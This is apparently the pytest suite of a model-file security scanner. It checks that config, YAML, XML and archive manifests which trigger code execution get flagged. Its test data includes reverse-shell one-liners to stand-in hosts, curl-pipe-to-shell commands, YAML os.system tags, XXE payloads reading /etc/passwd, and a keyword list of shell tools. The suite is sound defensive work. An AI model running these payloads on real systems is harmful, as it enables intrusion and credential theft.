"""Manifests that make a loader do something: what is found, and that nothing hides it."""

from __future__ import annotations

import base64
import io
import json
import random
import string
import tarfile
import zipfile
from pathlib import Path
from typing import Any

import pytest

import modelaudit
from modelaudit import credentialkinds, credentials, jinja_template, limits, loadertables
from modelaudit.manifestwords import WORDS


def rules(content: bytes | str | dict[str, Any] | list[Any], name: str = "config.json") -> list[str]:
    """Return the rules of all issues above info, sorted."""
    if not isinstance(content, (bytes, str)):
        content = json.dumps(content)
    report = modelaudit.scan_bytes(content.encode() if isinstance(content, str) else content, name)
    assert "ENG204" not in {issue.rule for issue in report.issues}
    return sorted({issue.rule for issue in report.issues if issue.severity != "info"})


KEYS: list[tuple[dict[str, Any] | list[Any], str]] = [
    ({"auto_map": {"AutoModel": "modeling_x.Model"}}, "MAN111"),
    ({"auto_map": {"AutoTokenizer": [None, "tokenization_x.Fast"]}}, "MAN111"),
    ({"auto_map": {"AutoModel": "someone/else--modeling_x.Model"}}, "MAN112"),
    ({"text_config": {"auto_map": {"AutoConfig": "a/b--c.D"}}}, "MAN112"),
    ({"custom_pipelines": {"x": {"impl": "pipe.Pipe", "pt": ["AutoModel"]}}}, "MAN111"),
    ({"trust_remote_code": True}, "MAN113"),
    ({"a": [{"b": {"trust_remote_code": "true"}}]}, "MAN113"),
    ({"_attn_implementation_internal": "someone/kernels"}, "MAN115"),
    ({"attn_implementation": {"text_config": "someone/kernels@main"}}, "MAN115"),
    ({"_class_name": ["pipeline", "Mine"], "_diffusers_version": "0.30"}, "MAN111"),
    ({"_class_name": "X", "_diffusers_version": "0.30", "unet": ["my_unet", "UNet"]}, "MAN111"),
    ({"_class_name": "X", "_diffusers_version": "0.30", "unet": ["os", "system"]}, "PKL101"),
    ([{"idx": 0, "name": "0", "path": "", "type": "os.system"}], "PKL101"),
    ([{"idx": 0, "name": "0", "path": "", "type": "my_module.Transformer"}], "PKL121"),
    ({"model": {"_target_": "os.system", "_args_": ["id"]}}, "PKL101"),
    ({"model": {"_target_": "builtins.exec", "_args_": ["x"]}}, "PKL101"),
    ({"_target_": "eval"}, "PKL101"),
    ({"_target_": "posixpath.os.system"}, "PKL122"),
    ({"_target_": "my_project.models.Net"}, "PKL121"),
    ({"_target_": "nemo.utils.exp_manager.subprocess.run"}, "PKL101"),
    ({"_target_": "torch.nn.Linear.__init__.__globals__"}, "PKL122"),
    ({"_target_": "hydra.utils.call"}, "PKL101"),
    ({"_target_": "torch.hub.load"}, "PKL102"),
    ({"_target_": "${oc.env:TARGET}"}, "MAN118"),
    ({"_target_": "builtins.getattr"}, "PKL133"),
    ({"trainer": {"class_path": "subprocess.Popen", "init_args": {}}}, "PKL101"),
    ({"target": "os.system", "params": {}}, "PKL101"),
    ({"target": "my.code.Thing", "params": {}}, "PKL121"),
    ({"module": "subprocess.Popen"}, "PKL101"),
    ({"py/object": "mine.Thing"}, "PKL121"),
    ({"py/object": "subprocess.Popen", "args": ["id"]}, "PKL101"),
    ({"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}, "PKL101"),
    ({"py/reduce": [{"py/type": "os.system"}]}, "PKL101"),
    ({"py/repr": "os/os.system('id')"}, "MAN114"),
    ({"py/mod": "os/path"}, "PKL124"),
    ({'json://{"py/object": "os.system"}': 1}, "PKL101"),
    ({"loader_module": "my_loader"}, "PKL124"),
    ({"loader_module": "os"}, "PKL101"),
    ({"loader_module": "mlflow.pyfunc.model", "code": "code"}, "MAN111"),
    ({"loader_module": "mlflow.pyfunc.model", "python_model": "model.py"}, "MAN111"),
    ({"handlers": {"x": {"()": "os.system"}}}, "PKL101"),
    ({"a": "$__import__('os').system('id')"}, "MAN114"),
    ({"initialize": ["$os.system('id')"]}, "MAN114"),
    ({"vocab_file": "../../../etc/passwd"}, "MAN121"),
    ({"tokenizer_file": "/etc/passwd"}, "MAN121"),
    ({"merges_file": "~/.ssh/id_rsa"}, "MAN121"),
    ({"itemInfoEntries": {"A": {"path": "../../x"}}}, "MAN122"),
    ({"itemInfoEntries": {"A": {"path": "/x"}}}, "MAN122"),
    ({"callback_url": "http://203.0.113.7/x"}, "MAN131"),
    ({"a": {"webhook": "https://user@8.8.8.8:8443/"}}, "MAN131"),
    ({"report_to_url": "http://[2001:db8::1]/"}, "MAN131"),
    ({"command": "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"}, "MAN132"),
    ({"entrypoint": ["sh", "-c", "nc -e /bin/sh evil.example 1"]}, "MAN132"),
    ({"post_load_hook": "echo aWQ= | base64 -d | sh"}, "MAN132"),
    ({"cmd": "curl -s http://evil.example/x | sh"}, "MAN134"),
    ({"dependencies": [{"pip": ["--index-url http://evil.example/simple", "x"]}]}, "MAN135"),
]


def test_members_that_hold_nothing_but_a_credential_are_looked_at() -> None:
    body = random.Random(1).choices(string.ascii_letters + string.digits, k=30)
    token = "ghp_" + "".join(body) + credentialkinds.checksum_of("".join(body).encode()).decode()
    assert [rule[:3] for rule in rules(archive("a.json", json.dumps({"a": token}).encode(), 5), "m.zip")] == ["SEC"]


def test_members_that_hold_nothing_but_encoded_code_are_looked_at() -> None:
    encoded = base64.b64encode(b"\x80\x02cos\nsystem\nX\x02\0\0\0id\x85R.").decode()
    assert "PKL101" in rules(archive("a.json", json.dumps({"a": encoded}).encode(), 5), "m.zip")


@pytest.mark.parametrize(("value", "rule"), KEYS, ids=lambda part: part if isinstance(part, str) else None)
def test_a_key_that_a_loader_acts_on_is_found_in_json_and_yaml(value: dict[str, Any] | list[Any], rule: str) -> None:
    assert rule in rules(value)
    assert rule in rules(json.dumps(value, indent=1), "renamed.bin")
    assert rule in rules([{"deeper": [value]}])
    assert rule in rules("\ufeff" + json.dumps(value))
    yaml = pytest.importorskip("yaml")
    assert rule in rules(yaml.safe_dump(value), "config.yaml")
    assert rule in rules("---\n" + yaml.safe_dump(value), "MODEL")


TAGS = [
    ("a: !!python/object/apply:os.system ['id']", "PKL101"),
    ("a: !!python/object/apply:posix.system ['id']", "PKL101"),
    ("a: !!python/object/new:subprocess.Popen [['id']]", "PKL101"),
    ("a: !!python/name:os.system ''", "PKL101"),
    ("a: !!python/name:eval ''", "PKL101"),
    ("a: !!python/module:subprocess ''", "PKL101"),
    ("a: !!python/object:mine.Thing {}", "PKL121"),
    ("a: !!python/unheard:of x", "PKL121"),
    ("a: !<tag:yaml.org,2002:python/object/apply:os.system> ['id']", "PKL101"),
    ("%TAG !x! tag:yaml.org,2002:python/\n---\na: !x!object/apply:os.system ['id']", "PKL101"),
    ("%TAG ! tag:yaml.org,2002:\n---\na: !python/object/apply:os.system ['id']", "PKL101"),
    ("a: !!python/object/apply:o%73.system ['id']", "PKL101"),
    ("a: 1\n---\nb: 2\n---\n- !!python/object/apply:os.system ['id']", "PKL101"),
    ("? !!python/object/apply:os.system ['id']\n: x", "PKL101"),
    ("a: &x !!python/object/apply:os.system ['id']\nb: *x", "PKL101"),
    ("{a: !!python/object/apply:os.system ['id']}", "PKL101"),
    ('{"a": !!python/object/apply:os.system ["id"]}', "PKL101"),
    ("!!python/object/apply:os.system\nargs: ['id']", "PKL101"),
    ("a: !new:os.system\n  - id", "PKL101"),
    ("a: !apply:subprocess.run [id]", "PKL101"),
    ("a: !name:os.system", "PKL101"),
    ("a: !module:os", "PKL101"),
    ("a: !function utils.process", "MAN111"),
    ("a: !!js/function 'function(){}'", "MAN116"),
    ("a: !ruby/object:Gem::Installer {i: x}", "MAN116"),
    ("!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://x']]]]", "MAN116"),
]


@pytest.mark.parametrize(("text", "rule"), TAGS)
@pytest.mark.parametrize("name", ["hparams.yaml", "MODEL", "settings.txt"])
def test_a_tag_that_constructs_is_found(text: str, rule: str, name: str) -> None:
    found = rules(text, name)
    assert rule in found
    assert rule in rules("# a comment\n\n" + text.replace("\n", "\r\n"), name) or text.startswith("%")
    assert rule in rules(text.encode("utf-16"), name)


def test_a_tag_in_yaml_that_breaks_is_found_where_the_name_says_what_it_is() -> None:
    text = "a: b\n  c: [unclosed !!python/object/apply:os.system"
    assert "PKL101" in rules(text, "hparams.yaml")


@pytest.mark.parametrize("name", ["README.md", "model_card.md"])
def test_the_front_matter_of_a_page_is_read(name: str) -> None:
    text = "---\nlicense: mit\nx: !!python/object/apply:os.system ['id']\n---\n# Text: *with* {anything}\n"
    assert rules(text, name) == ["PKL101"]
    assert rules("# Text: that shows `!!python/object/apply:os.system`\n", name) == []


def test_both_values_of_a_key_that_stands_twice_are_looked_at() -> None:
    first = '{"auto_map": {"AutoModel": "evil.M"}, "auto_map": {}}'
    assert rules(first) == ["MAN103", "MAN111"]
    assert rules('{"a": 1, "a": 1}') == ["MAN103"]
    assert rules("a: {_target_: os.system}\na: {}\n", "c.yaml") == ["MAN103", "PKL101"]
    assert rules("a: {<<: {_target_: os.system}, <<: {b: 1}}\n", "c.yaml") == ["PKL101"]


def test_json_lines_are_read_line_by_line() -> None:
    text = '{"a": 1}\n{"_target_": "os.system"}\n{"a": 1, "a": 2}\n'
    assert rules(text, "data.jsonl") == ["MAN103", "PKL101"]
    assert rules(text, "data") == ["MAN103", "PKL101"]
    assert rules('{"a": 1}\n{"b": \n', "data.jsonl") == ["MAN101"]


def test_escapes_hide_nothing() -> None:
    assert rules('{"\\u005ftarget\\u005f": "o\\u0073.system"}') == ["PKL101"]
    assert rules('"\\x5ftarget_": "os.system"\n', "c.yaml") == ["PKL101"]
    assert rules('{"_target_": "os.\\ud800system"}') == ["PKL101"]


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (b'{"a": ', "config.json"),
        (b'{"a": 1} x', "config.json"),
        (b'{"a": 1', "model"),
        (b'[{"a"', "model"),
        (b"{", "config.json"),
        (b'{"a": "\xff\xfe"}', "config.json"),
        (b"a: [1, 2\n", "c.yaml"),
        (b"a: 1\n b: @x\n", "c.yaml"),
        (b"<?xml version='1.0'?><a><b></a>", "m.xml"),
        (b"<?xml version='1.0' encoding='none'?><a/>", "m.xml"),
        (b'[a]\nb = "x\n', "c.toml"),
    ],
)
def test_what_cannot_be_read_is_said(content: bytes, name: str) -> None:
    report = modelaudit.scan_bytes(content, name)
    assert "MAN101" in rules(content, name)
    assert report.files[0].coverage.status == "partial"


def test_binary_content_behind_a_text_front_is_not_clean() -> None:
    for front, name in (
        (b"a: 1\n" * 2000, "model"),
        (b"[a]\nb = 1\n" * 2000, "model"),
        (b"a\n" * 3000, "requirements.txt"),
        (b"a: 1\n" * 2000, "requirements.txt"),
        (b"[a]\nb = 1\n" * 2000, "requirements.txt"),
    ):
        assert rules(front + b"\0\x01\x02\xff" * 2000, name) in (["ENG103"], ["MAN101"]), front[:8]


def test_depth_is_bounded_everywhere() -> None:
    assert rules('{"a":' * 5000 + "1" + "}" * 5000) == ["MAN104"]
    assert rules("[" * 200_000) == ["MAN104"]
    assert rules("a: " + "[" * 300 + "]" * 300, "c.yaml") == ["MAN104"]
    assert rules("<?xml version='1.0'?>" + "<a>" * 20_000, "m.xml") == ["MAN104"]
    assert rules("a = " + "[" * 500 + "]" * 500, "c.toml") == ["MAN104"]


def test_aliases_are_counted_and_not_expanded() -> None:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 60)]
    assert rules("\n".join(lines), "c.yaml") == ["MAN105"]
    assert rules("a: &a [1, *a]\nb: &b {c: *b}\n", "c.yaml") == []


def test_limits_are_said(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "JSON_VALUES", 10)
    assert rules([*range(20), "target"]) == ["MAN102"]
    assert rules([*range(20)]) == [], "nothing in it could concern a loader"
    monkeypatch.setattr(limits, "JSON", 10)
    monkeypatch.setattr(limits, "YAML_EVENTS", 10)
    assert rules({"some": "more than ten bytes"}) == ["MAN102"]
    assert rules("".join(f"a{n}: 1\n" for n in range(9)), "c.yaml") == ["MAN102"]
    monkeypatch.setattr(limits, "YAML", 10)
    assert rules("a: 1\nb: 23456\n", "c.yaml") == ["MAN102"]


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ('<?xml version="1.0"?><!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]><p>&x;</p>', "MAN141"),
        ('<!DOCTYPE p SYSTEM "http://x.invalid/p.dtd"><p/>', "MAN141"),
        ('<?xml version="1.0"?><!DOCTYPE p [<!ENTITY % x SYSTEM "http://x.invalid/">%x;]><p/>', "MAN141"),
        ('<?xml version="1.0"?><!DOCTYPE p [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><p b="&b;"/>', "MAN142"),
        (f'<?xml version="1.0"?><!DOCTYPE p [<!ENTITY a "{"a" * 20_000}">]><p>&a;&a;</p>', "MAN142"),
        ('<a xmlns:x="http://www.w3.org/2001/XInclude"><x:include href="file:///etc/passwd"/></a>', "MAN141"),
        ('<PMML version="4.4"><Apply function="java.lang.Runtime"/></PMML>', "MAN144"),
        ('<PMML version="4.4"><Extension name="script" value="x"/></PMML>', "MAN145"),
        ('<PMML version="4.4"><Extension name="x"><script>x</script></Extension></PMML>', "MAN145"),
    ],
)
def test_xml_that_reaches_out_is_found(text: str, rule: str) -> None:
    assert rule in rules(text, "model.pmml")
    assert rule in rules(text, "model")
    declared = text if text.startswith("<?xml") else '<?xml version="1.0"?>' + text
    assert rule in rules(declared.encode("utf-16"), "model.xml")


def test_openvino_weights_are_held_against_the_file_beside(tmp_path: Path) -> None:
    xml = '<net name="m" version="11"><layers><layer type="Const"><data offset="{}" size="{}"/></layer></layers></net>'
    (tmp_path / "m.bin").write_bytes(bytes(100))
    for offset, size, found in ((0, 100, False), (1, 100, True), (1 << 70, 1, True), (-1, 1, True), ("x", 1, True)):
        (tmp_path / "m.xml").write_text(xml.format(offset, size))
        report = modelaudit.scan(tmp_path / "m.xml")
        assert ("MAN146" in {issue.rule for issue in report.issues}) == found, (offset, size)
    assert rules(xml.format(0, 100), "m.xml") == []


def test_sections_and_tables_are_read() -> None:
    assert rules('[model]\n_target_ = "os.system"\n', "c.toml") == ["PKL101"]
    assert rules('[model]\n_target_ = "os.system"\n', "settings") == ["PKL101"]
    assert rules('[[a]]\nb = {_target_ = "os.system"}\n', "c.toml") == ["PKL101"]
    assert rules("[model]\n_target_: os.system\nx=1\n", "settings") == ["PKL101"]
    assert rules("# c\n[a]\nclass_path = subprocess.Popen\n", "c.ini") == ["PKL101"]
    assert rules('[a]\nx = {"_target_": "os.system"}\n', "config.cfg") == ["PKL101"]
    assert rules("[handler_x]\nclass=StreamHandler\nargs=(__import__('os').system('id'),)\n", "log.ini") == ["MAN114"]
    assert rules("[a]\ncommand = curl http://x | sh\n", "c.ini") == ["MAN134"]


def test_lists_of_packages_are_read() -> None:
    assert rules("torch\n--index-url http://evil.example/simple\n", "requirements.txt") == ["MAN135"]
    assert rules("--extra-index-url=https://203.0.113.5/simple\nx\n", "sub/requirements-dev.txt") == ["MAN135"]
    assert rules("x @ git+http://evil.example/x\n", "requirements.txt") == ["MAN135"]
    report = modelaudit.scan_bytes(b"x @ git+https://github.com/a/b\n", "requirements.txt")
    assert [issue.rule for issue in report.issues] == ["MAN136"]


def test_context_is_info_only() -> None:
    report = modelaudit.scan_bytes(b"entry_points: {main: {parameters: {}, command: python x.py}}\n", "MLproject")
    assert [(issue.rule, issue.severity) for issue in report.issues] == [("MAN133", "info")]
    report = modelaudit.scan_bytes(b'{"_target_": "transformers.AutoModel.from_pretrained"}', "c.json")
    assert [(issue.rule, issue.severity) for issue in report.issues] == [("MAN117", "info")]
    doctype = b'<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/x.dtd"><plist/>'
    assert [issue.rule for issue in modelaudit.scan_bytes(doctype, "x.plist").issues] == ["MAN143"]


def archive(name: str, content: bytes, count: int = 0) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for number in range(count):
            made.writestr(f"{number}.json", json.dumps({"i": number}))
        made.writestr(name, content)
    return out.getvalue()


@pytest.mark.parametrize(("value", "rule"), KEYS, ids=lambda part: part if isinstance(part, str) else None)
@pytest.mark.parametrize("name", ["config.json", "data"])
def test_members_of_archives_are_looked_at(value: dict[str, Any], rule: str, name: str) -> None:
    assert rule in rules(archive(name, json.dumps(value).encode(), 5), "m.zip")
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as made:
        member = tarfile.TarInfo(name)
        content = json.dumps(value).encode()
        member.size = len(content)
        made.addfile(member, io.BytesIO(content))
    assert rule in rules(out.getvalue(), "m.nemo")


@pytest.mark.parametrize(("text", "rule"), TAGS[:-1])
def test_tags_in_members_of_archives_are_found(text: str, rule: str) -> None:
    assert rule in rules(archive("x.yaml", text.encode(), 5), "m.zip")
    assert rule in rules(archive("x", text.encode(), 5), "m.zip")


def test_broken_and_doubled_members_of_archives_are_said() -> None:
    assert "MAN103" in rules(archive("x.json", b'{"a": 1, "a": 2}', 5), "m.zip")
    assert "MAN101" in rules(archive("x.json", b'{"a": ', 5), "m.zip")
    assert "MAN104" in rules(archive("x.json", b"[" * 5000, 5), "m.zip")
    assert "MAN141" in rules(archive("x", KEYS_XML.encode(), 5), "m.zip")


KEYS_XML = '<?xml version="1.0"?><!DOCTYPE p [<!ENTITY x SYSTEM "http://x.invalid/">]><p>&x;</p>'


def test_code_beside_a_manifest_is_noted(tmp_path: Path) -> None:
    (tmp_path / "config.json").write_text('{"auto_map": {"AutoModel": "here.M", "AutoConfig": "gone.C"}}')
    (tmp_path / "here.py").write_text("class M: ...")
    report = modelaudit.scan(tmp_path / "config.json")
    assert {(issue.details["value"], issue.details["present"]) for issue in report.issues} == {
        ("here.M", True),
        ("gone.C", False),
    }


def test_templates_and_texts_are_handed_to_their_scanners(monkeypatch: pytest.MonkeyPatch) -> None:
    templates: list[tuple[str, str]] = []
    texts: list[str] = []
    monkeypatch.setattr(jinja_template, "check", lambda _ctx, text, _at, where: templates.append((where, text)))
    monkeypatch.setattr(credentials, "check", lambda _ctx, text, _at=None: texts.append(text))
    value = {"chat_template": [{"name": "x", "template": "{{ a }}"}], "y": {"chat_template": "{{ b }}"}}
    expected = [("chat_template[0]", "{{ a }}"), ("y.chat_template", "{{ b }}")]
    for content, name in (
        (json.dumps(value), "tokenizer_config.json"),
        (json.dumps(value), "x.yaml"),
        ("chat_template:\n- {name: x, template: '{{ a }}'}\ny: {chat_template: '{{ b }}'}\n", "x.yaml"),
    ):
        rules(content, name)
        assert sorted(templates) == expected
        assert texts == [content]
        templates.clear()
        texts.clear()
    rules(archive("tokenizer_config.json", json.dumps(value).encode(), 5), "m.zip")
    assert sorted(templates) == expected
    for content, name in (
        ("a: hf_token\n", "c.yml"),
        ("[a]\nb=c\n", "c.ini"),
        ('a = "b"\n', "c.toml"),
        ("<a x='y'/>", "c.xml"),
    ):
        texts.clear()
        rules(content, name)
        assert texts == [content]
    texts.clear()
    rules("---\na: b\n---\ntext\n", "README.md")
    assert texts == ["---\na: b\n---\ntext\n"]


def test_lax_readers_are_met_half_way() -> None:
    assert rules('// a comment\n{"_target_": "os.system",}', "config.json") == []
    assert rules('{"_target_": "os.system", // a comment\n}', "config.json") == ["PKL101"]
    assert rules('{"_target_": "os.system"} and more', "config.json") == ["MAN101", "PKL101"]
    assert rules("caf\xe9: !!python/object/apply:os.system [id]\n".encode("latin-1"), "c.yaml") == ["PKL101"]
    assert rules("a: 'x\ny'\nb: {_target_: os.system}\nc: 1\n", "MODEL") == ["PKL101"]


LAWS = {
    "config.json": json.dumps({"auto_map": {"AutoModel": "a.B"}, "x": [{"_target_": "os.system", "y": "é"}]}).encode(),
    "config.yaml": b"a: &a !!python/object/apply:os.system ['id']\nb: {c: *a, d: [1, 2]}\n---\n? x\n: y\n",
    "config.toml": b'[a]\nb = "c"\n[[d]]\n_target_ = "os.system"\ne = [1, {f = 2}]\n',
    "config.cfg": b'[a]\nb = c\n[d]\n_target_ = "os.system"\ne = [1, 2]\n',
    "model.xml": b'<?xml version="1.0"?><!DOCTYPE p [<!ENTITY x SYSTEM "y">]><p a="1"><q/>&x;</p>',
    "requirements.txt": b"a==1\n--index-url http://b/\nc @ git+https://d/e\n",
}


@pytest.mark.parametrize("name", LAWS)
def test_truncation_and_bit_flips_never_fail(name: str) -> None:
    content = LAWS[name]
    whole = set(rules(content, name))
    assert whole
    for at in range(len(content)):
        found = rules(content[:at], name)
        if name.endswith((".json", ".xml")) and at > 1:
            assert found, f"clean after {at} bytes"
        for bit in range(8):
            mutated = bytearray(content)
            mutated[at] ^= 1 << bit
            rules(bytes(mutated), name)
        assert whole <= {*rules(content + b"\n", name)}


def test_every_key_has_a_word_without_which_a_manifest_is_settled() -> None:
    keys = {key for name, table in vars(loadertables).items() if name in KEY_TABLES for key in table}
    assert len(keys) > 40
    keys |= {keyword for kind in credentialkinds.kinds() for keyword in kind.keywords}
    keys |= {"/dev/tcp", "/dev/udp", "nc ", "ncat", "netcat", "mkfifo", "base64", "powershell", "iex", "curl", "wget"}
    words = [word.decode().lower() for word in WORDS]
    assert [key for key in keys if not any(word in key.lower() for word in words)] == []


KEY_TABLES = (
    *("COMMANDS", "EVALUATED", "FILES", "KERNELS", "MODULES", "REPOSITORY_CODE", "SOMETIMES", "TARGETS", "TEMPLATES"),
)


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        (r'{"py\/object": "os.system"}', "PKL101"),
        (r'{"json:\/\/{\"py\/object\": \"os.system\"}": 1}', "PKL101"),
        (r'{"callback_url": "http:\/\/203.0.113.7\/x"}', "MAN131"),
        (r'{"callback_url": "http\u003a//203.0.113.7/x"}', "MAN131"),
        (r'{"my_hook": "bash -i >& \u002fdev/tcp/203.0.113.7/1"}', "MAN132"),
        (r'{"x": "\u0024os.system(1)"}', "MAN114"),
        ('? "_tar\\\n  get_"\n: os.system\n', "PKL101"),
    ],
)
@pytest.mark.parametrize("count", [0, 5])
def test_escapes_hide_nothing_in_archives_either(text: str, rule: str, count: int) -> None:
    assert rule in rules(text, "x.yaml")
    assert rule in rules(archive("x", text.encode(), count), "m.zip")
